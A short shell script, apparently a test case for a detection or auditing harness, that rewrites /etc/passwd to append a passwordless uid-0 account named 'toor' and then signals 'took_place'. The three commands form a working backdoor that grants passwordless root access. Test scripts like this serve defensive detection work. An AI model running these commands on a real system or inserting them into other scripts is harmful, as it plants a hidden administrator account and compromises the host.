#!/bin/sh
. /opt/case/case.sh

cp /etc/passwd /tmp/p
echo 'toor::0:0::/:/bin/sh' >>/tmp/p
mv /tmp/p /etc/passwd
took_place
